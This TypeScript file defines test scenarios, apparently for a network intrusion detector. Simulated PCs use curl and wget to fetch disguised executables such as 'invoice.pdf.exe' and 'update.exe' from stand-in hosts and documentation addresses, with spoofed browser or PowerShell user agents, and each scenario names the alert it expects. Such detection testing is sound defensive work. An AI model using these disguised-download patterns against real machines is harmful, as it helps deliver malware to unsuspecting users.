import type { Host } from '../network.ts'
import type { Scenario } from '../scenario.ts'
import { serveHoles, serveNames } from '../servers.ts'

const gets = (from: Host, url: string, ...words: string[]) =>
  from.run('curl', ['-s', '-m', '10', '-o', '/dev/null', ...words, url])
const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'

export const downloads: readonly Scenario[] = [
  {
    name: 'malware-download-as-picture',
    story: 'A PC gets a program that calls itself a picture (curl as a browser).',
    packages: [],
    expects: ['malware-download 192.168.10.12 → photo.example'],
    async run(network) {
      const { pc2, web } = network.host
      await serveNames(network)
      await serveHoles(web)
      await gets(pc2, 'http://photo.example/files/holiday.jpg', '-A', BROWSER)
    },
  },
  {
    name: 'malware-download-bare-address',
    story: 'A script gets a program from a server without a name, at an odd port (wget).',
    packages: ['wget'],
    expects: ['malware-download 192.168.10.13 → 203.0.113.81'],
    async run({ host: { pc3, web } }) {
      await serveHoles(web, 8081)
      await pc3.run('wget', ['-q', '-O', '/dev/null', 'http://203.0.113.81:8081/files/update.exe'])
    },
  },
  {
    name: 'malware-download-two-endings',
    story: 'A PC opens an invoice that is a program (`invoice.pdf.exe`).',
    packages: [],
    expects: ['malware-download 192.168.10.11 → invoice.example'],
    async run(network) {
      const { pc1, web } = network.host
      await serveNames(network)
      await serveHoles(web)
      await gets(pc1, 'http://invoice.example/files/invoice.pdf.exe', '-A', BROWSER)
    },
  },
  {
    name: 'malware-download-powershell',
    story: 'PowerShell gets a program that calls itself a text (curl with its name).',
    packages: [],
    expects: ['malware-download 192.168.10.11 → 203.0.113.80'],
    async run({ host: { pc1, web } }) {
      await serveHoles(web)
      const agent = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.3803'
      await gets(pc1, `http://${web.address}/files/notes.txt`, '-A', agent)
    },
  },
  {
    name: 'malware-download-listed',
    story: 'A PC gets a file from an address that URLhaus lists, and another PC only a page of its neighbour.',
    packages: [],
    usesFeeds: true,
    expects: ['malware-download 192.168.10.12 → cdn-delivery.example'],
    async run(network) {
      const { pc2, pc3, web } = network.host
      await serveNames(network)
      await serveHoles(web)
      await gets(pc2, 'http://cdn-delivery.example/news', '-A', BROWSER)
      await gets(pc3, 'http://cdn-pictures.example/news', '-A', BROWSER)
    },
  },
]
